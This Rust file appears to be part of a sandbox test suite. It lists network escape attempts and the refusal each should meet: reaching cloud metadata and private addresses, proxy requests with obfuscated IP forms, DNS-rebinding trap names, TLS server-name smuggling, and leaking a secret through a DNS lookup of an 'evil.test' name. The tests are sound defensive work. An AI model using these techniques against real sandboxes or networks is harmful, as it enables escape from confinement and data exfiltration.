//! N: the network. An attempt dials an address beyond loopback only if it is not in the machine's own network.

use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixStream};
use std::time::Duration;

use crate::attempt::{Answer, Attempt, Evidence};
use crate::tries::{NOTHING, name_of, outcome};
use crate::world::World;

/// The longest wait for a peer's answer.
const PATIENCE: Duration = Duration::from_secs(20);
const PROXY: u16 = 3128;
const TLS: u16 = 443;
const DNS: u16 = 53;
/// How a proxy and a TLS peer refuse.
const FORBIDDEN: &str = "403";
const ALERT: &str = "an alert";
const NO_SUCH_NAME: &str = "no such name";

pub(crate) const ATTEMPTS: &[Attempt] = &[
    Attempt {
        id: "N1a",
        does: "dials a service on the host's loopback",
        held_by: &["ECONNREFUSED"],
        evidence: Evidence::NobodyCame,
        act: |world| dial(world, Ipv4Addr::LOCALHOST.into(), world.neighbour.port),
    },
    Attempt {
        id: "N1b",
        does: "dials a service on the host's IPv6 loopback",
        held_by: &["ECONNREFUSED", "EADDRNOTAVAIL", "EAFNOSUPPORT", "ENETUNREACH"],
        evidence: Evidence::NobodyCame,
        act: |world| match world.neighbour.port_6 {
            Some(port) => dial(world, Ipv6Addr::LOCALHOST.into(), port),
            None => Answer::NotHere("the host has no IPv6 loopback".to_owned()),
        },
    },
    Attempt {
        id: "N1c",
        does: "dials a cloud's metadata service",
        held_by: &["ENETUNREACH"],
        evidence: Evidence::Inside,
        act: |world| dial(world, Ipv4Addr::new(169, 254, 169, 254).into(), 80),
    },
    Attempt {
        id: "N1d",
        does: "dials the local network",
        held_by: &["ENETUNREACH"],
        evidence: Evidence::Inside,
        act: |world| dial(world, Ipv4Addr::new(192, 168, 1, 1).into(), 80),
    },
    Attempt {
        id: "N1e",
        does: "dials a private network",
        held_by: &["ENETUNREACH"],
        evidence: Evidence::Inside,
        act: |world| dial(world, Ipv4Addr::new(10, 0, 0, 1).into(), 22),
    },
    Attempt {
        id: "N1f",
        does: "dials an internet address",
        held_by: &["ENETUNREACH"],
        evidence: Evidence::Inside,
        act: |world| dial(world, Ipv4Addr::new(203, 0, 113, 10).into(), TLS),
    },
    Attempt {
        id: "N1g",
        does: "dials a cloud's metadata service by its IPv6 address",
        held_by: &["ENETUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT"],
        evidence: Evidence::Inside,
        act: |world| {
            let address = Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254);
            dial(world, address.into(), 80)
        },
    },
    Attempt {
        id: "N1h",
        does: "sends a datagram to a name server on the internet",
        held_by: &["ENETUNREACH"],
        evidence: Evidence::Inside,
        act: |world| {
            apart(world, || {
                let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
                socket.send_to(b"evil", (Ipv4Addr::new(203, 0, 113, 53), DNS))
            })
        },
    },
    Attempt {
        id: "N6a",
        does: "dials one of the host's abstract sockets",
        held_by: &["ECONNREFUSED"],
        evidence: Evidence::NobodyCame,
        act: |world| {
            let address = UnixAddress::from_abstract_name(&world.neighbour.abstract_name);
            let stream = address.and_then(|address| UnixStream::connect_addr(&address));
            outcome(stream, "a peer answered")
        },
    },
    Attempt {
        id: "N6b",
        does: "looks for the host's network interfaces",
        held_by: &[NOTHING],
        evidence: Evidence::Inside,
        act: |_| {
            let interfaces = std::fs::read_to_string("/proc/net/dev").unwrap_or_default();
            let names = interfaces.lines().filter_map(|line| line.split_once(':'));
            match names.map(|(name, _)| name.trim()).find(|name| *name != "lo") {
                Some(name) => Answer::done(format!("it sees {name}")),
                None => Answer::refused(NOTHING),
            }
        },
    },
];

/// Through the supervisor, with a simulated outside world; see `tests/suite/sandbox/network/outside.sh`.
pub(crate) const ON_THE_WAY_OUT: &[Attempt] = &[
    Attempt {
        id: "N2a",
        does: "asks the proxy for a host that is not on the list",
        held_by: &[FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || connect(b"denied.test:443")),
    },
    Attempt {
        id: "N2b",
        does: "asks over TLS for a host that is not on the list",
        held_by: &[ALERT],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || hello(b"denied.test")),
    },
    Attempt {
        id: "N2c",
        does: "asks the proxy for another port of an allowed host",
        held_by: &[FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || connect(b"allowed.test:22")),
    },
    Attempt {
        id: "N2d",
        does: "asks the proxy for an address instead of a name",
        held_by: &[FORBIDDEN, "400"],
        evidence: Evidence::NobodyCame,
        act: |world| {
            let forms = ["203.0.113.10", "127.0.0.1", "3405803786", "0xcb00710a", "127.1", "[::1]"];
            apart_answer(world, || {
                crate::tries::first_done(
                    forms.map(|form| connect(format!("{form}:443").as_bytes())),
                )
            })
        },
    },
    Attempt {
        id: "N2e",
        does: "asks the proxy for a page instead of a tunnel",
        held_by: &["405", "400", FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| {
            apart_answer(world, || {
                let request = b"GET http://169.254.169.254/latest HTTP/1.1\r\n\r\n";
                proxy_answer(exchange(PROXY, request))
            })
        },
    },
    Attempt {
        id: "N2f",
        does: "speaks TLS without a server name",
        held_by: &[ALERT],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || hello(b"")),
    },
    Attempt {
        id: "N4a",
        does: "follows an allowed name to loopback",
        held_by: &["502", FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || connect(b"loop.trap.test:443")),
    },
    Attempt {
        id: "N4b",
        does: "follows an allowed name to the metadata service",
        held_by: &["502", FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || connect(b"meta.trap.test:443")),
    },
    Attempt {
        id: "N4c",
        does: "follows an allowed name into the local network",
        held_by: &["502", FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || connect(b"lan.trap.test:443")),
    },
    Attempt {
        id: "N4d",
        does: "follows an allowed name back to the supervisor",
        held_by: &["502", FORBIDDEN],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || connect(b"own.trap.test:443")),
    },
    Attempt {
        id: "N5",
        does: "leaks a secret in a name that it looks up",
        held_by: &[NO_SUCH_NAME],
        evidence: Evidence::NobodyCame,
        act: |world| apart_answer(world, || lookup(&format!("{}.evil.test", world.secret))),
    },
];

/// Tries a name in every way that a client can send one.
pub fn smuggle(name: &str) -> Answer {
    let by_proxy = connect(&[name.as_bytes(), b":443"].concat());
    // A DNS question cannot express a final dot, because every name in it already ends with one.
    let by_question = lookup(if name.ends_with('.') { "denied.test" } else { name });
    let answers = [by_proxy, hello(name.as_bytes()), by_question];
    let is_held = |answer: &Answer| {
        let held = [FORBIDDEN, "400", ALERT, NO_SUCH_NAME];
        matches!(answer, Answer::Refused(why) if held.contains(&why.as_str()))
    };
    match answers.iter().find(|answer| !is_held(answer)) {
        Some(Answer::Refused(why)) => Answer::refused(why.clone()),
        Some(other) => other.clone(),
        None => Answer::refused("refused three ways"),
    }
}

/// Runs `act`, which may send packets, unless they would go to the machine's network.
fn apart<T>(world: &World, act: impl FnOnce() -> io::Result<T>) -> Answer {
    match world.is_apart() {
        true => outcome(act(), "it was reached"),
        false => Answer::done("it is in the machine's own network, so nothing was sent"),
    }
}

fn apart_answer(world: &World, act: impl FnOnce() -> Answer) -> Answer {
    match world.is_apart() {
        true => act(),
        false => Answer::done("it is in the machine's own network, so nothing was sent"),
    }
}

fn dial(world: &World, address: IpAddr, port: u16) -> Answer {
    let connect = || TcpStream::connect_timeout(&SocketAddr::new(address, port), PATIENCE);
    if address.is_loopback() {
        outcome(connect(), "a peer answered")
    } else {
        apart(world, connect)
    }
}

/// Sends these bytes to a peer on loopback, and reads its answer until it hangs up or has sent enough.
fn exchange(port: u16, bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(bytes)?;
    let mut answer = Vec::new();
    let mut piece = [0; 512];
    while answer.len() < 12 {
        match stream.read(&mut piece)? {
            0 => break,
            count => answer.extend_from_slice(&piece[..count]),
        }
    }
    Ok(answer)
}

fn connect(target: &[u8]) -> Answer {
    let request = [b"CONNECT ", target, b" HTTP/1.1\r\n\r\n"].concat();
    proxy_answer(exchange(PROXY, &request))
}

fn proxy_answer(answer: io::Result<Vec<u8>>) -> Answer {
    let answer = match answer {
        Ok(answer) => answer,
        Err(error) => return Answer::refused(name_of(&error)),
    };
    let line = String::from_utf8_lossy(&answer).into_owned();
    match line.split_whitespace().nth(1) {
        Some("200") => Answer::done("the tunnel is open"),
        Some(status) => Answer::refused(status),
        None => Answer::refused(format!("{line:?}")),
    }
}

/// Starts a TLS handshake that asks for the host `name`.
fn hello(name: &[u8]) -> Answer {
    match exchange(TLS, &client_hello(name)) {
        // A fatal alert, "access denied". A peer that refuses for another reason sends another alert.
        Ok(answer) if answer.first() == Some(&0x15) && answer.ends_with(&[2, 49]) => {
            Answer::refused(ALERT)
        }
        Ok(answer) if answer.is_empty() => Answer::refused("it hung up"),
        Ok(_) => Answer::done("a peer answered"),
        Err(error) => Answer::refused(name_of(&error)),
    }
}

fn sized(width: usize, content: &[u8]) -> Vec<u8> {
    let length = content.len().to_be_bytes();
    [&length[length.len() - width..], content].concat()
}

fn client_hello(name: &[u8]) -> Vec<u8> {
    let entry = [&[0][..], &sized(2, name)].concat();
    let extension = [&[0, 0][..], &sized(2, &sized(2, &entry))].concat();
    let extensions = if name.is_empty() { Vec::new() } else { extension };
    let body = [
        &[3, 3][..],
        &[7; 32],
        &sized(1, &[]),
        &sized(2, &[0x13, 1]),
        &sized(1, &[0]),
        &sized(2, &extensions),
    ]
    .concat();
    let message = [&[1][..], &sized(3, &body)].concat();
    [&[22, 3, 1][..], &sized(2, &message)].concat()
}

/// Looks up the address of a name.
fn lookup(name: &str) -> Answer {
    let labels: Vec<u8> = name.split('.').flat_map(|label| sized(1, label.as_bytes())).collect();
    let query = [&[9, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &labels, &[0, 0, 1, 0, 1]].concat();
    let asked = || -> io::Result<Vec<u8>> {
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send_to(&query, (Ipv4Addr::LOCALHOST, DNS))?;
        let mut answer = vec![0; 512];
        let count = socket.recv(&mut answer)?;
        answer.truncate(count);
        Ok(answer)
    };
    match asked() {
        Ok(answer) if answer.get(3).is_some_and(|flags| flags & 0xf == 3) => {
            Answer::refused(NO_SUCH_NAME)
        }
        Ok(_) => Answer::done("it is known"),
        Err(error) => Answer::refused(name_of(&error)),
    }
}
